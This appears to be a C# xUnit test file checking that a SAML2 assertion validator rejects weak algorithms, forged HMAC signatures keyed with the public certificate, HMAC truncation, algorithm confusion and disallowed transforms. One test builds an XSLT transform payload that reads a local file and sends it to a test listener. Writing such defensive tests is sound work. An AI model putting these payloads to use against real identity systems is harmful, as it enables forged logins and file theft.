using System.Security.Cryptography;
using System.Security.Cryptography.Xml;
using System.Xml;
using AspNetCore.Saml2Bearer.Assertions;
using AspNetCore.Saml2Bearer.Tests.Infrastructure;

namespace AspNetCore.Saml2Bearer.Tests.Assertions;

/// <summary>
/// SECURITY-CASES.md, "Algorithms and transforms" (rows 26-31). Where SignedXml would execute a
/// dangerous transform while signing, the SignedInfo is edited by hand and re-signed with the trusted
/// key instead, so only the allow-list under test can reject it.
/// </summary>
public sealed class Saml2AssertionAlgorithmAttackTests(ValidatorFixture fixture) : IClassFixture<ValidatorFixture>
{
    private const string XsltTransformUrl = "http://www.w3.org/TR/1999/REC-xslt-19991116";

    private XmlDocument SignedV() => fixture.NewAssertion().BuildSigned(fixture.IdpKey);

    private async Task<Saml2AssertionValidationResult> ValidateAsync(XmlDocument document, Action<Saml2AssertionValidationParameters>? configure = null) =>
        await fixture.CreateValidator(configure).ValidateAsync(Saml2AssertionBuilder.Encode(document));

    [Fact]
    public async Task ValidateAsync_RsaSha1Signature_ReturnsUnsupportedSignatureAlgorithm()
    {
        // Row 26: RsaSha1, refused by default.
        var builder = fixture.NewAssertion();
        builder.SignatureAlgorithm = SignedXml.XmlDsigRSASHA1Url;

        var result = await ValidateAsync(builder.BuildSigned(fixture.IdpKey));

        Assert.Equal(Saml2AssertionFailureReason.UnsupportedSignatureAlgorithm, result.FailureReason);
    }

    [Fact]
    public async Task ValidateAsync_RsaSha1Signature_Sha1Allowed_IsAccepted()
    {
        // Row 26 control: the same assertion passes with the explicit opt-in, so the rejection above is the default at work.
        var builder = fixture.NewAssertion();
        builder.SignatureAlgorithm = SignedXml.XmlDsigRSASHA1Url;

        var result = await ValidateAsync(builder.BuildSigned(fixture.IdpKey), p => p.AllowSha1 = true);

        Assert.Equal(Saml2AssertionFailureReason.None, result.FailureReason);
    }

    [Theory]
    [InlineData("http://www.w3.org/2001/04/xmldsig-more#rsa-md5")]
    [InlineData("http://www.w3.org/2000/09/xmldsig#dsa-sha1")]
    [InlineData("http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1")]
    [InlineData("")]
    public async Task ValidateAsync_OtherSignatureMethod_ResignedByTrustedKey_ReturnsUnsupportedSignatureAlgorithm(string algorithm)
    {
        // Row 26: anything outside the RSA/ECDSA SHA-2 table.
        var document = SignedV();
        MaliciousAssertions.Dsig(document, "SignatureMethod").SetAttribute("Algorithm", algorithm);
        MaliciousAssertions.ResignSignedInfo(MaliciousAssertions.Signature(document), fixture.IdpKey);

        var result = await ValidateAsync(document);

        Assert.Equal(Saml2AssertionFailureReason.UnsupportedSignatureAlgorithm, result.FailureReason);
    }

    [Fact]
    public async Task ValidateAsync_Sha1Digest_ReturnsUnsupportedDigestAlgorithm()
    {
        // Row 27: Sha1Digest, refused by default.
        var builder = fixture.NewAssertion();
        builder.DigestAlgorithm = SignedXml.XmlDsigSHA1Url;

        var result = await ValidateAsync(builder.BuildSigned(fixture.IdpKey));

        Assert.Equal(Saml2AssertionFailureReason.UnsupportedDigestAlgorithm, result.FailureReason);
    }

    [Fact]
    public async Task ValidateAsync_Sha1Digest_Sha1Allowed_IsAccepted()
    {
        // Row 27 control.
        var builder = fixture.NewAssertion();
        builder.DigestAlgorithm = SignedXml.XmlDsigSHA1Url;

        var result = await ValidateAsync(builder.BuildSigned(fixture.IdpKey), p => p.AllowSha1 = true);

        Assert.Equal(Saml2AssertionFailureReason.None, result.FailureReason);
    }

    [Fact]
    public async Task ValidateAsync_Md5Digest_ResignedByTrustedKey_ReturnsUnsupportedDigestAlgorithm()
    {
        // Row 27: an unknown, weaker digest.
        var document = SignedV();
        MaliciousAssertions.Dsig(document, "DigestMethod").SetAttribute("Algorithm", "http://www.w3.org/2001/04/xmldsig-more#md5");
        MaliciousAssertions.ResignSignedInfo(MaliciousAssertions.Signature(document), fixture.IdpKey);

        var result = await ValidateAsync(document);

        Assert.Equal(Saml2AssertionFailureReason.UnsupportedDigestAlgorithm, result.FailureReason);
    }

    [Theory]
    [InlineData("SHA256", false)]
    [InlineData("SHA512", false)]
    [InlineData("SHA1", true)] // refused even with the SHA-1 opt-in
    public async Task ValidateAsync_HmacKeyedWithTrustedCertificateBytes_ReturnsUnsupportedSignatureAlgorithm(string hash, bool allowSha1)
    {
        // Row 28: HmacSignature. The public certificate is known to everyone, so an HMAC keyed with it
        // is a signature anyone can forge.
        var document = fixture.NewAssertion().BuildUnsigned();
        var certificate = fixture.IdpKey.PublicCertificate.RawData;
#pragma warning disable CA5350 // the attacker's choice, under test
        using KeyedHashAlgorithm hmac = hash switch
        {
            "SHA1" => new HMACSHA1(certificate),
            "SHA512" => new HMACSHA512(certificate),
            _ => new HMACSHA256(certificate),
        };
#pragma warning restore CA5350
        Saml2AssertionBuilder.Sign(document, fixture.IdpKey, signatureAlgorithm: "http://www.w3.org/2001/04/xmldsig-more#hmac-" + hash.ToLowerInvariant(), hmacKey: hmac);
        Assert.Contains("hmac", MaliciousAssertions.Dsig(document, "SignatureMethod").GetAttribute("Algorithm"), StringComparison.Ordinal);

        var result = await ValidateAsync(document, p => p.AllowSha1 = allowSha1);

        Assert.Equal(Saml2AssertionFailureReason.UnsupportedSignatureAlgorithm, result.FailureReason);
    }

    [Fact]
    public async Task ValidateAsync_HmacWithTruncatedOutputLength_ReturnsUnsupportedSignatureAlgorithm()
    {
        // Row 28: HMACOutputLength truncation (CVE-2009-0217).
        var document = fixture.NewAssertion().BuildUnsigned();
        using var hmac = new HMACSHA256(fixture.IdpKey.PublicCertificate.RawData);
        Saml2AssertionBuilder.Sign(document, fixture.IdpKey, hmacKey: hmac);
        var outputLength = document.CreateElement("HMACOutputLength", Saml2AssertionBuilder.DsigNs);
        outputLength.InnerText = "0";
        MaliciousAssertions.Dsig(document, "SignatureMethod").AppendChild(outputLength);

        var result = await ValidateAsync(document);

        Assert.Equal(Saml2AssertionFailureReason.UnsupportedSignatureAlgorithm, result.FailureReason);
    }

    [Fact]
    public async Task ValidateAsync_RsaSignatureLabelledEcdsa_ReturnsSignatureInvalid()
    {
        // Row 28, algorithm confusion: an RSA signature value under an ECDSA SignatureMethod.
        var document = SignedV();
        MaliciousAssertions.Dsig(document, "SignatureMethod").SetAttribute("Algorithm", "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256");
        MaliciousAssertions.ResignSignedInfo(MaliciousAssertions.Signature(document), fixture.IdpKey);

        var result = await ValidateAsync(document);

        Assert.Equal(Saml2AssertionFailureReason.SignatureInvalid, result.FailureReason);
    }

    [Theory]
    [InlineData(SignedXml.XmlDsigC14NTransformUrl)]
    [InlineData(SignedXml.XmlDsigC14NWithCommentsTransformUrl)]
    [InlineData("http://www.w3.org/2006/12/xml-c14n11")]
    public async Task ValidateAsync_InclusiveCanonicalizationMethod_ReturnsUnsupportedCanonicalizationMethod(string method)
    {
        // Row 29: InclusiveC14N as the CanonicalizationMethod of SignedInfo.
        var document = SignedV();
        MaliciousAssertions.Dsig(document, "CanonicalizationMethod").SetAttribute("Algorithm", method);
        MaliciousAssertions.ResignSignedInfo(MaliciousAssertions.Signature(document), fixture.IdpKey);

        var result = await ValidateAsync(document);

        Assert.Equal(Saml2AssertionFailureReason.UnsupportedCanonicalizationMethod, result.FailureReason);
    }

    [Fact]
    public async Task ValidateAsync_InclusiveCanonicalizationSignedBySignedXml_ReturnsUnsupportedCanonicalizationMethod()
    {
        // Row 29: the same, signed end to end by SignedXml.
        var builder = fixture.NewAssertion();
        builder.CanonicalizationMethod = SignedXml.XmlDsigC14NTransformUrl;

        var result = await ValidateAsync(builder.BuildSigned(fixture.IdpKey));

        Assert.Equal(Saml2AssertionFailureReason.UnsupportedCanonicalizationMethod, result.FailureReason);
    }

    [Fact]
    public async Task ValidateAsync_InclusiveC14NTransform_ReturnsUnsupportedTransform()
    {
        // Row 29: InclusiveC14N as the reference's transform, signed by SignedXml.
        var document = fixture.NewAssertion().BuildUnsigned();
        Saml2AssertionBuilder.Sign(document, fixture.IdpKey, configureReference: reference =>
        {
            reference.AddTransform(new XmlDsigEnvelopedSignatureTransform());
            reference.AddTransform(new XmlDsigC14NTransform());
        });

        var result = await ValidateAsync(document);

        Assert.Equal(Saml2AssertionFailureReason.UnsupportedTransform, result.FailureReason);
    }

    [Theory]
    [InlineData(1)] // in place of exclusive c14n
    [InlineData(0)] // in place of enveloped-signature
    public async Task ValidateAsync_XsltTransform_ReturnsUnsupportedTransformWithoutFileOrNetworkAccess(int position)
    {
        // Row 30: XsltTransform, a SAML Raider style payload that would read a local file and call out.
        using var listener = new RecordingTcpListener();
        var secret = Path.Combine(Path.GetTempPath(), "saml2bearer-xslt-" + Guid.NewGuid().ToString("N") + ".xml");
        await File.WriteAllTextAsync(secret, "<secret>do not read</secret>");
        var lastAccess = new DateTime(2001, 1, 1, 0, 0, 0, DateTimeKind.Utc);
        File.SetLastAccessTimeUtc(secret, lastAccess);
        try
        {
            var document = SignedV();
            var stylesheet =
                "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\">" +
                "<xsl:template match=\"/\">" +
                $"<xsl:variable name=\"file\" select=\"document('{new Uri(secret).AbsoluteUri}')\"/>" +
                $"<xsl:value-of select=\"document(concat('{listener.Url("xslt")}?', $file))\"/>" +
                "</xsl:template></xsl:stylesheet>";
            MaliciousAssertions.ReplaceTransform(document, position, MaliciousAssertions.Transform(document, XsltTransformUrl, stylesheet));
            MaliciousAssertions.ResignSignedInfo(MaliciousAssertions.Signature(document), fixture.IdpKey);

            var result = await ValidateAsync(document);

            Assert.Equal(Saml2AssertionFailureReason.UnsupportedTransform, result.FailureReason);
            Assert.Equal(0, listener.Connections);
            Assert.Equal(lastAccess, File.GetLastAccessTimeUtc(secret));
        }
        finally
        {
            File.Delete(secret);
        }
    }

    [Theory]
    [InlineData("XPath")]
    [InlineData("XPathFilter2")]
    [InlineData("Base64")]
    [InlineData("Decrypt")]
    [InlineData("Unknown")]
    public async Task ValidateAsync_DisallowedTransformInPlaceOfExclusiveC14N_ReturnsUnsupportedTransform(string kind)
    {
        // Row 31: OtherTransforms, each in the second slot and re-signed by the trusted key.
        var document = SignedV();
        var transform = kind switch
        {
            "XPath" => MaliciousAssertions.Transform(document, SignedXml.XmlDsigXPathTransformUrl,
                $"<XPath xmlns=\"{Saml2AssertionBuilder.DsigNs}\" xmlns:ds=\"{Saml2AssertionBuilder.DsigNs}\">not(ancestor-or-self::ds:Signature)</XPath>"),
            "XPathFilter2" => MaliciousAssertions.Transform(document, "http://www.w3.org/2002/06/xmldsig-filter2",
                "<XPath xmlns=\"http://www.w3.org/2002/06/xmldsig-filter2\" Filter=\"subtract\">//*</XPath>"),
            "Base64" => MaliciousAssertions.Transform(document, SignedXml.XmlDsigBase64TransformUrl),
            "Decrypt" => MaliciousAssertions.Transform(document, SignedXml.XmlDecryptionTransformUrl),
            _ => MaliciousAssertions.Transform(document, "urn:example:attacker:transform"),
        };
        MaliciousAssertions.ReplaceTransform(document, 1, transform);
        MaliciousAssertions.ResignSignedInfo(MaliciousAssertions.Signature(document), fixture.IdpKey);

        var result = await ValidateAsync(document);

        Assert.Equal(Saml2AssertionFailureReason.UnsupportedTransform, result.FailureReason);
    }

    [Theory]
    [InlineData("ThreeTransforms")]
    [InlineData("EnvelopedOnly")]
    [InlineData("ExclusiveOnly")]
    [InlineData("Swapped")]
    [InlineData("NoTransforms")]
    [InlineData("ParameterOnEnveloped")]
    public async Task ValidateAsync_TransformChainOtherThanEnvelopedThenExclusive_ReturnsUnsupportedTransform(string kind)
    {
        // Row 31: more than two transforms, or not exactly enveloped-signature then exclusive c14n.
        var document = SignedV();
        var transforms = MaliciousAssertions.Dsig(document, "Transforms");
        var enveloped = transforms.ChildNodes.OfType<XmlElement>().First();
        var exclusive = transforms.ChildNodes.OfType<XmlElement>().Last();
        switch (kind)
        {
            case "ThreeTransforms":
                transforms.AppendChild(exclusive.CloneNode(deep: true));
                break;
            case "EnvelopedOnly":
                transforms.RemoveChild(exclusive);
                break;
            case "ExclusiveOnly":
                transforms.RemoveChild(enveloped);
                break;
            case "Swapped":
                transforms.RemoveChild(enveloped);
                transforms.AppendChild(enveloped);
                break;
            case "NoTransforms":
                transforms.ParentNode!.RemoveChild(transforms);
                break;
            default:
                var parameter = document.CreateElement("XPath", Saml2AssertionBuilder.DsigNs);
                parameter.InnerText = "1";
                enveloped.AppendChild(parameter);
                break;
        }

        MaliciousAssertions.ResignSignedInfo(MaliciousAssertions.Signature(document), fixture.IdpKey);

        var result = await ValidateAsync(document);

        Assert.Equal(Saml2AssertionFailureReason.UnsupportedTransform, result.FailureReason);
    }

    [Theory]
    [InlineData("Transform", "xs xs")]
    [InlineData("Transform", "#default saml #default")]
    [InlineData("CanonicalizationMethod", "ds ds")]
    public async Task ValidateAsync_InclusiveNamespacesPrefixListedTwice_IsRefusedAsUnsupported(string where, string prefixList)
    {
        // XmlDsigExcC14NTransform throws on a prefix listed twice, so SignedXml never accepts one; the
        // validator refuses it while reading the signature, re-signed by the trusted key or not.
        var document = SignedV();
        var method = where == "Transform"
            ? MaliciousAssertions.Dsig(document, "Transforms").ChildNodes.OfType<XmlElement>().Last()
            : MaliciousAssertions.Dsig(document, "CanonicalizationMethod");
        var inclusive = document.CreateElement("ec", "InclusiveNamespaces", "http://www.w3.org/2001/10/xml-exc-c14n#");
        inclusive.SetAttribute("PrefixList", prefixList);
        method.AppendChild(inclusive);
        MaliciousAssertions.ResignSignedInfo(MaliciousAssertions.Signature(document), fixture.IdpKey);

        var result = await ValidateAsync(document);

        Assert.Equal(
            where == "Transform" ? Saml2AssertionFailureReason.UnsupportedTransform : Saml2AssertionFailureReason.UnsupportedCanonicalizationMethod,
            result.FailureReason);
    }
}
